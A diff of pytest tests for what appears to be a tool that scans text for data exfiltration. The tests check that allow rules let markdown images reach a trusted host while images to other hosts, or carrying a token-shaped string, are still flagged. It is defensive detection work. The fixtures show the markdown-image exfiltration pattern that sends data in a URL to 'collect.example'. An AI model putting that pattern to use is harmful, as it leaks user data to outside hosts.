@@ -38,6 +38,24 @@ def put(front: Front, text: str) -> Path:
     return folder
 
 
+PICTURE = "![chart](https://images.acme.example/c.png?d=k7Gh2mQp9XvR4tLs8WzB3nYc5Jd1Fa6He0Ui)\n"
+ALLOW = """
+kind = "exfiltration"
+
+[[allow]]
+reason = "Our own picture server."
+hosts = ["*.acme.example"]
+"""
+REFUSED_HOSTS = {
+    "an address": ALLOW.replace("*.acme.example", "https://images.acme.example/"),
+    "everything below a top-level domain": ALLOW.replace("*.acme.example", "*.com"),
+    "no host": ALLOW.replace('"*.acme.example"', ""),
+    "no reason": ALLOW.replace("Our own picture server.", " "),
+    "a detector that looks at no host": ALLOW + 'detectors = ["bidi"]\n',
+    "a pack of another kind": ALLOW.replace("exfiltration", "secret"),
+}
+
+
 def call(command: str) -> bytes:
     return json.dumps({"tool": "Bash", "args": {"command": command}}).encode()
 
@@ -92,3 +110,27 @@ def test_a_broken_one_never_weakens_a_decision(front: Front, text: str, kind: st
     for command in (("scan", "-"), ("redact",), ("rules", "list")):
         said = front(*command, stdin=b"x")
         assert (said.code, kind in said.err) == (2, True), command
+
+
+def test_data_may_go_to_the_hosts_that_a_pack_allows_and_a_secret_may_not(front: Front):
+    def found(text: str) -> list[str]:
+        return [finding["rule"] for finding in front("scan", "--json", "-", stdin=text.encode()).answer["findings"]]
+
+    elsewhere = PICTURE.replace("acme.example", "collect.example")
+    assert found(PICTURE) == found(elsewhere) == ["exfiltration.markdown-image"]
+    put(front, ALLOW)
+    assert found(PICTURE) == []
+    assert found(elsewhere) == ["exfiltration.markdown-image"]
+    token = "gh" + "o_16C7e42F292c6912E7710c838347Ae4H2Y7G"
+    assert "exfiltration.markdown-image" in found(PICTURE.replace("k7Gh2mQp9XvR4tLs8WzB3nYc5Jd1Fa6He0Ui", token))
+    assert b"data may go to 1 host" in front("rules", "check").out
+
+
+@pytest.mark.parametrize("text", REFUSED_HOSTS.values(), ids=REFUSED_HOSTS)
+def test_what_is_no_host_is_an_error_and_never_lets_anything_through(front: Front, text: str):
+    put(front, text)
+    checked = front("rules", "check", "--json")
+    assert checked.code != 0
+    errors = checked.answer["errors"]
+    assert [(error["kind"], error["message"][:7]) for error in errors] == [("rule_field", "allow 1")]
+    assert front("scan", "-", stdin=PICTURE.encode()).code == 2
